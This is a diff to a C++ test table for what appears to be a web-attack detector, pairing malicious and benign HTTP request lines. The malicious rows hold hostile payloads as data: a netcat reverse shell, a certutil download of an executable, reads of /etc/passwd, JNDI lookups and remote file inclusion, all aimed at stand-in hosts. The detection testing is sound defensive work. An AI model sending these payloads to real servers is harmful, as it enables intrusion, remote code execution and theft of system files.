@@ -284,6 +284,8 @@ constexpr SlotCase kSlotCases[] = {
     {3, false, "get /redirect?url=https%3a%2f%2fpartner.example.org%2foffer%3fid%3d7 http/1.1"},
     {3, false, "get /docs/getting-started/../install.html http/1.1"},
     {3, false, "get /files?path=%2fdocuments%2freports%2f2024 http/1.1"},
+    {3, true, "get /index.php?page=//evil.example/x.php http/1.1"},
+    {3, false, "get /index.php?file=//cdn.example.com/img/logo.png http/1.1"},
     // Slot 4: OS command injection and code execution.
     {4, true, "get /ping?host=127.0.0.1%3bcat%20/etc/passwd http/1.1"},
     {4, true, "get /ping?host=x%7cnc%20198.51.100.7%204444%20-e%20/bin/sh http/1.1"},
@@ -307,6 +309,10 @@ constexpr SlotCase kSlotCases[] = {
     {4, false, "get /s?q=%27cat%27+videos+what%27s+new+in+python http/1.1"},
     {4, true, "get /ping?host=127.0.0.1%3bwho http/1.1"},
     {4, false, "get /s?q=rock;top+see;history+r%26w http/1.1"},
+    {4, true,
+     "get /ping?host=x%26certutil.exe%20-urlcache%20-f%20http://198.51.100.7/x.exe http/1.1"},
+    {4, true, "get /ping?host=;$%27\\x63\\x61\\x74%27%20/etc/hosts http/1.1"},
+    {4, false, "get /s?q=q%26a+set+-up+r%26d+find+/help http/1.1"},
     // Slot 5: Java, OGNL, JNDI, expression and template injection; Weblogic and Tomcat.
     {5, true, "get / http/1.1\" 200 1 \"-\" \"${jndi:ldap://198.51.100.7/a}\""},
     {5, true, "get /?x=%24%7b%24%7blower:j%7dndi:rmi://evil.example/x%7d http/1.1"},
@@ -329,6 +335,7 @@ constexpr SlotCase kSlotCases[] = {
     {6, true, "get /.cursorignore http/1.1"},
     {6, true, "get /wp-content/error.log http/1.1"},
     {6, false, "get /blog/cursor-rules-for-ai?page=2 http/1.1"},
+    {6, true, "get /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php http/1.1"},
     // Slot 7: wider SQL and script keywords.
     {7, true, "get /item?id=5%20and%20sleep(3) http/1.1"},
     {7, true, "get /item?id=1%27%20or%20x%3dx http/1.1"},
